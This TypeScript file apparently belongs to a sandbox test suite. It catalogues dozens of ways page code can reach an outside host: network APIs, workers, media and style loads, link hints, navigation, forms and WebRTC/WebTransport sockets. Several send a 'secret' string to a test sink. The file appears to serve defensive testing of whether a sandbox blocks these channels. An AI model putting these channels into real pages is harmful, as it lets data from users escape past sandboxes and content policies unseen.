// The ways a page could send something to the outside, each a function that is run inside the page.
import type { Target } from './sink'

/** Self-contained, for each travels into the page as text; may throw, which is what a good cage makes it do. */
export type WayOut = (target: Target) => unknown

const requests: Readonly<Record<string, WayOut>> = {
  fetch: ({ url }) => fetch(url),
  'fetch, no-cors': ({ url }) =>
    fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' }),
  XMLHttpRequest: ({ url }) => {
    const request = new XMLHttpRequest()
    request.open('POST', url)
    request.send('secret')
  },
  sendBeacon: ({ url }) => navigator.sendBeacon(url, 'secret'),
  WebSocket: ({ url }) => new WebSocket(url.replace('http', 'ws')),
  EventSource: ({ url }) => new EventSource(url),
  'import()': ({ url }) => import(/* @vite-ignore */ `${url}.js`),
  script: ({ url }) => {
    const script = document.createElement('script')
    script.src = `${url}.js`
    document.head.append(script)
  },
  'module script': ({ url }) => {
    const script = document.createElement('script')
    script.type = 'module'
    script.src = `${url}.js`
    document.head.append(script)
  },
  Worker: ({ url }) => {
    const code = `fetch('${url}'); importScripts('${url}.js')`
    return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
  },
  SharedWorker: ({ url }) => {
    const code = `fetch('${url}')`
    return new SharedWorker(`data:text/javascript,${encodeURIComponent(code)}`)
  },
  'service worker': ({ url }) => navigator.serviceWorker.register(`${url}.js`),
  worklet: ({ url }) => new AudioContext().audioWorklet.addModule(`${url}.js`),
}

const media: Readonly<Record<string, WayOut>> = {
  img: ({ url }) => {
    new Image().src = url
  },
  'img srcset': ({ url }) => {
    new Image().srcset = `${url} 2x`
  },
  'svg image': ({ url }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', url)
    svg.append(image)
    document.body.append(svg)
  },
  'svg use': ({ url }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const use = document.createElementNS('http://www.w3.org/2000/svg', 'use')
    use.setAttribute('href', `${url}#a`)
    svg.append(use)
    document.body.append(svg)
  },
  audio: ({ url }) => new Audio(url).play(),
  'video and poster': ({ url }) => {
    const video = document.createElement('video')
    video.poster = url
    video.src = url
    document.body.append(video)
  },
  'text track': ({ url }) => {
    const video = document.createElement('video')
    const track = document.createElement('track')
    video.crossOrigin = 'anonymous'
    track.default = true
    track.src = url
    video.append(track)
    document.body.append(video)
    track.track.mode = 'showing'
  },
  'input type=image': ({ url }) => {
    const input = document.createElement('input')
    input.type = 'image'
    input.src = url
    document.body.append(input)
  },
  iframe: ({ url }) => {
    const frame = document.createElement('iframe')
    frame.src = url
    document.body.append(frame)
  },
  'iframe srcdoc': ({ url }) => {
    const frame = document.createElement('iframe')
    frame.srcdoc = `<img src="${url}">`
    document.body.append(frame)
  },
  object: ({ url }) => {
    const object = document.createElement('object')
    object.data = url
    document.body.append(object)
  },
  embed: ({ url }) => {
    const embed = document.createElement('embed')
    embed.src = url
    document.body.append(embed)
  },
}

const styles: Readonly<Record<string, WayOut>> = {
  'background of an element': ({ url }) => {
    document.body.style.backgroundImage = `url(${url})`
  },
  'rule of a constructed style sheet': ({ url }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(
      `body { cursor: url(${url}), auto; list-style-image: url(${url}); border-image-source: url(${url}) }`,
    )
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
  },
  '@import': ({ url }) => {
    const style = document.createElement('style')
    style.textContent = `@import url(${url}.css);`
    document.head.append(style)
  },
  'style sheet': ({ url }) => {
    const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = `${url}.css`
    document.head.append(link)
  },
  'font of a rule': ({ url }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(
      `@font-face { font-family: Leak; src: url(${url}) } body { font-family: Leak !important }`,
    )
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
    document.body.append('some text to draw')
  },
  FontFace: ({ url }) => new FontFace('Leak', `url(${url})`).load(),
}

const hints: Readonly<Record<string, WayOut>> = {
  prefetch: ({ url }) => {
    const link = document.createElement('link')
    link.rel = 'prefetch'
    link.href = url
    document.head.append(link)
  },
  preconnect: ({ url }) => {
    const link = document.createElement('link')
    link.rel = 'preconnect'
    link.href = url
    document.head.append(link)
  },
  preload: ({ url }) => {
    const link = document.createElement('link')
    link.rel = 'preload'
    link.as = 'image'
    link.href = url
    document.head.append(link)
  },
  modulepreload: ({ url }) => {
    const link = document.createElement('link')
    link.rel = 'modulepreload'
    link.href = `${url}.js`
    document.head.append(link)
  },
  icon: ({ url }) => {
    const link = document.createElement('link')
    link.rel = 'icon'
    link.href = url
    document.head.append(link)
  },
  manifest: ({ url }) => {
    const link = document.createElement('link')
    link.rel = 'manifest'
    link.href = url
    document.head.append(link)
  },
  'speculation rules': ({ url }) => {
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.textContent = JSON.stringify({
      prefetch: [{ source: 'list', urls: [url] }],
      prerender: [{ source: 'list', urls: [url] }],
    })
    document.head.append(rules)
  },
}

const journeys: Readonly<Record<string, WayOut>> = {
  location: ({ url }) => {
    location.href = url
  },
  'location.replace': ({ url }) => {
    location.replace(url)
  },
  'navigation.navigate': ({ url }) => {
    const { navigation } = window as unknown as { navigation: { navigate(to: string): unknown } }
    navigation.navigate(url)
  },
  'meta refresh': ({ url }) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0; url=${url}`
    document.head.append(meta)
  },
  'window.open': ({ url }) => window.open(url),
  'window.open of a blank page': ({ url }) => {
    const opened = window.open('about:blank')
    if (opened) opened.location.href = url
  },
  'click on a link': ({ url }) => {
    const link = document.createElement('a')
    link.href = url
    document.body.append(link)
    link.click()
  },
  'click on a link to a new window': ({ url }) => {
    const link = document.createElement('a')
    link.href = url
    link.target = '_blank'
    document.body.append(link)
    link.click()
  },
  'middle click on a link': ({ url }) => {
    const link = document.createElement('a')
    link.href = url
    document.body.append(link)
    link.dispatchEvent(new MouseEvent('click', { button: 1, ctrlKey: true, bubbles: true, cancelable: true }))
  },
  download: ({ url }) => {
    const link = document.createElement('a')
    link.href = url
    link.download = 'secret.txt'
    document.body.append(link)
    link.click()
  },
  'ping of a link': ({ url }) => {
    const link = document.createElement('a')
    link.href = '#here'
    link.ping = url
    document.body.append(link)
    link.click()
  },
  'form, GET': ({ url }) => {
    const form = document.createElement('form')
    form.action = url
    document.body.append(form)
    form.submit()
  },
  'form, POST to a new window': ({ url }) => {
    const form = document.createElement('form')
    form.action = url
    form.method = 'post'
    form.target = '_blank'
    document.body.append(form)
    form.submit()
  },
}

const sockets: Readonly<Record<string, WayOut>> = {
  'WebRTC, STUN over UDP': async ({ host, udpPort }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${String(udpPort)}` }] })
    peer.createDataChannel('leak')
    await peer.setLocalDescription(await peer.createOffer())
  },
  'WebRTC, TURN over TCP': async ({ host, tcpPort }) => {
    const urls = `turn:${host}:${String(tcpPort)}?transport=tcp`
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'secret', credential: 'secret' }] })
    peer.createDataChannel('leak')
    await peer.setLocalDescription(await peer.createOffer())
  },
  'WebRTC, TURN over UDP': async ({ host, udpPort }) => {
    const urls = `turn:${host}:${String(udpPort)}?transport=udp`
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'secret', credential: 'secret' }] })
    peer.createDataChannel('leak')
    await peer.setLocalDescription(await peer.createOffer())
  },
  'WebRTC, straight to a peer': async ({ host, udpPort }) => {
    const peer = new RTCPeerConnection()
    peer.createDataChannel('leak')
    const offer = await peer.createOffer()
    await peer.setLocalDescription(offer)
    await peer.setRemoteDescription({ type: 'answer', sdp: (offer.sdp ?? '').replace('actpass', 'active') })
    await peer.addIceCandidate({
      candidate: `candidate:1 1 udp 2122260223 ${host} ${String(udpPort)} typ host`,
      sdpMid: '0',
      sdpMLineIndex: 0,
    })
  },
  WebTransport: ({ host, udpPort }) => new WebTransport(`https://${host}:${String(udpPort)}/`).ready,
}

export const WAYS_OUT: ReadonlyMap<string, WayOut> = new Map(
  [requests, media, styles, hints, journeys, sockets].flatMap((ways) => Object.entries(ways)),
)
